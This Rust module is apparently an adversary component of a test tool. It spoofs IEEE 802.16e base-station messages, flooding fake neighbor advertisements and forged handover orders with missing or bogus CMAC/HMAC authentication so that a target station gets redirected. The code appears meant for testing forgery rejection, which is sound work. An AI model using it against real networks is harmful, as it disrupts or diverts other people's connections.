//! Somebody near the mobile station who forges what a base station would say (RFC 5270 section 8).

use std::{thread, time::Duration};

use anyhow::{Context, Result};
use bytes::Bytes;
use clap::ValueEnum;
use fmip_ctl::{
    link::ieee80216e::{
        air::{BROADCAST, ETHERTYPE, Frame},
        message::{
            Authentication, CMAC_LEN, CmacTuple, HMAC_LEN, HmacTuple, Message, MobBshoReq,
            MobNbrAdv, Neighbor, Pdu, Recommendation, Target, cid,
        },
    },
    wire::MacAddr,
};

use super::radio::Radio;

/// What is forged.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Forgery {
    /// MOB_NBR-ADV, each with base stations that nobody has heard of.
    NeighborAdvertisements,
    /// MOB_BSHO-REQ, without a valid CMAC.
    HandoverRequests,
}

/// How much of it, and in whose name.
#[derive(Clone, Debug)]
pub struct Flood {
    /// What.
    pub forgery: Forgery,
    /// In whose name.
    pub as_base_station: MacAddr,
    /// To whom.
    pub station: MacAddr,
    /// Where the station is to be made to go.
    pub target: MacAddr,
    /// How many messages.
    pub messages: u32,
    /// Between two of them.
    pub interval: Duration,
}

/// New base stations in one forged MOB_NBR-ADV.
const BASE_STATIONS: u32 = 16;

impl Flood {
    /// Sends all of it from `interface`.
    ///
    /// # Errors
    /// If the interface cannot be opened.
    pub fn send(&self, interface: &str) -> Result<()> {
        // It gives access to no link.
        let radio = Radio::open(interface, ETHERTYPE, "")?;
        let mut random = fastrand::Rng::with_seed(u64::from(self.messages));
        for number in 0..self.messages {
            let frame = self.frame(number, &mut random)?;
            radio.send(&frame).context("the forged frame is not sent")?;
            thread::sleep(self.interval);
        }
        Ok(())
    }

    fn frame(&self, number: u32, random: &mut fastrand::Rng) -> Result<Bytes> {
        let (destination, pdu) = match self.forgery {
            Forgery::NeighborAdvertisements => (BROADCAST, neighbors(number)),
            Forgery::HandoverRequests => (self.station, self.order(number, random)),
        };
        let frame = Frame {
            destination,
            source: self.as_base_station,
            signal_dbm: Some(-40),
            pdu: pdu.encode()?,
        };
        Ok(frame.encode())
    }

    /// An order to go, with no authentication, a wrong one, or one of the wrong kind.
    fn order(&self, number: u32, random: &mut fastrand::Rng) -> Pdu {
        let authentication = match number % 3 {
            0 => None,
            1 => {
                let mut value = [0; CMAC_LEN];
                random.fill(&mut value);
                Some(Authentication::Cmac(CmacTuple {
                    key_sequence: (number / 3 % 16) as u8,
                    bsid: None,
                    packet_number: u32::MAX - number,
                    value,
                }))
            }
            _ => {
                let mut digest = [0; HMAC_LEN];
                random.fill(&mut digest);
                Some(Authentication::Hmac(HmacTuple {
                    key_sequence: 1,
                    digest,
                }))
            }
        };
        Pdu {
            cid: (number % 64) as u16,
            message: Message::MobBshoReq(MobBshoReq {
                network_assisted: false,
                recommendation: Recommendation {
                    mandatory: true,
                    resource_retain: false,
                    targets: vec![Target::new(self.target)],
                },
                action_time: 0,
                unknown: Vec::new(),
            }),
            authentication,
        }
    }
}

/// An advertisement of base stations that no other has named.
fn neighbors(number: u32) -> Pdu {
    let first = number * BASE_STATIONS;
    let neighbors = (first..first + BASE_STATIONS).map(|number| {
        let [_, d, e, f] = number.to_be_bytes();
        Neighbor {
            bsid: [d ^ 0x80, e, f],
            ..Neighbor::new(MacAddr([0; 6]))
        }
    });
    Pdu {
        cid: cid::BROADCAST,
        message: Message::MobNbrAdv(MobNbrAdv {
            operator: Some([0x02, 0xba, 0xd0]),
            change_count: number as u8,
            fragment: 0,
            fragments: 1,
            neighbors: neighbors.collect(),
        }),
        authentication: None,
    }
}
